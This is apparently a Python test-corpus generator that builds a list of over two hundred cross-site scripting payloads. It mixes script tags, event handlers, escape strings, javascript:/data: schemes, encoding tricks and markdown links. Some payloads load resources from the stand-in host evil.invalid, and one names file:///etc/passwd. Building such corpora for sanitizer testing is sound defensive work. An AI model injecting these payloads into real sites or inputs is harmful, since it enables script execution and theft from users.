"""Words that want to be more than words, made of what browsers have ever run: elements, handlers,
addresses, and the ways out of wherever text may stand."""

CODE = "alert(7)"
FOREIGN = "//evil.invalid"

ELEMENTS = [
    f"<script>{CODE}</script>",
    f"<script src={FOREIGN}/a.js></script>",
    f"<ScRiPt >{CODE}</sCrIpT\n>",
    f"<scr<script>ipt>{CODE}</scr</script>ipt>",
    f"<img src=x onerror={CODE}>",
    f'<img/src="x"/onerror="{CODE}"/>',
    f"<img src='{FOREIGN}/a.png'>",
    f"<img srcset='{FOREIGN}/a.png 2x'>",
    f"<svg/onload={CODE}>",
    f"<svg><script>{CODE}</script></svg>",
    f"<svg><a xlink:href=javascript:{CODE}><text y=20>go</text></a></svg>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CODE}>#x'/></svg>",
    f"<math><mi xlink:href=javascript:{CODE}>go</mi></math>",
    f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe>",
    f"<iframe src=javascript:{CODE}></iframe>",
    f"<iframe src={FOREIGN}/></iframe>",
    f"<object data=javascript:{CODE}></object>",
    f"<embed src=data:text/html,<script>{CODE}</script>>",
    f"<body onload={CODE}>",
    f"<details open ontoggle={CODE}>",
    f"<input autofocus onfocus={CODE}>",
    f"<video src=x onerror={CODE}></video>",
    f"<audio autoplay src={FOREIGN}/a.mp3 oncanplay={CODE}></audio>",
    f"<video><source onerror={CODE}></video>",
    f"<marquee onstart={CODE}>x</marquee>",
    f"<form action=javascript:{CODE}><button>go</button></form>",
    f"<button formaction=javascript:{CODE} form=x>go</button>",
    f"<isindex type=image src=x onerror={CODE}>",
    f"<a href=javascript:{CODE}>go</a>",
    f"<a href='java\tscript:{CODE}'>go</a>",
    f"<a href='&#106;avascript:{CODE}'>go</a>",
    f"<a href='data:text/html,<script>{CODE}</script>'>go</a>",
    f"<base href={FOREIGN}/>",
    f"<link rel=stylesheet href={FOREIGN}/a.css>",
    f"<link rel=prefetch href={FOREIGN}/a>",
    f"<style>@import '{FOREIGN}/a.css';</style>",
    f"<style>*{{background:url({FOREIGN}/a)}}</style>",
    f"<div style='background:url({FOREIGN}/a)'>x</div>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}/'>",
    f"<template shadowrootmode=open><img src=x onerror={CODE}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
    f"<textarea><img src=x onerror={CODE}></textarea>",
    f"<select><option><img src=x onerror={CODE}></select>",
    f"<table background={FOREIGN}/a><td>x</table>",
    f"<xmp><img src=x onerror={CODE}></xmp>",
    f"<plaintext><img src=x onerror={CODE}>",
    f"<!--><img src=x onerror={CODE}>-->",
    f"<![CDATA[<img src=x onerror={CODE}>]]>",
    f"<?xml version=1?><img src=x onerror={CODE}>",
    f"<counterfoil-messenger onclick={CODE}>x</counterfoil-messenger>",
    f"<dialog open><img src=x onerror={CODE}></dialog>",
    f"<p popover onbeforetoggle={CODE} id=p></p><button popovertarget=p>go</button>",
    f"<div hx-get={FOREIGN}/ hx-trigger=load>x</div>",
    f"<div data-hx-on:load={CODE} hx-on::load={CODE}>x</div>",
]

WAYS_OUT = [
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "-->",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
]
WAYS_OUT += ["</template>", "</a>", "]]>", "{{", "{%", "${", "\\", "%22%3E", "\u2028", "\uff1c"]

SCHEMES = [
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f"java\tscript:{CODE}",
    f"javascript&colon;{CODE}",
    f"&#106;&#97;vascript:{CODE}",
    f"javascript&#58;{CODE}",
    f"\\javascript:{CODE}",
    f"javascript://shop.test/%0a{CODE}",
    f"javascript:/*--></title>*/{CODE}",
    f"%6aavascript:{CODE}",
    f"vbscript:{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={CODE}>",
    f"blob:https://shop.test/{CODE}",
    "file:///etc/passwd",
    f"view-source:javascript:{CODE}",
    f"\u00a0javascript:{CODE}",
    f"{FOREIGN}/a",
    f"\\\\evil.invalid\\{CODE}",
]
FORMS = ["[go]({})", "<{}>", "![go]({})", "[go]: {}\n\n[go]", "{}"]


def payloads() -> list[str]:
    """Well over two hundred, each once."""
    found = list(ELEMENTS)
    found += [f"{way}<img src=x onerror={CODE}>" for way in WAYS_OUT]
    found += [f"x{way} onmouseover={CODE} autofocus onfocus={CODE} x=" for way in WAYS_OUT]
    found += [form.format(scheme) for scheme in SCHEMES for form in FORMS]
    found += [f"[go](https://shop.test/{way}onclick={CODE})" for way in WAYS_OUT]
    return list(dict.fromkeys(found))
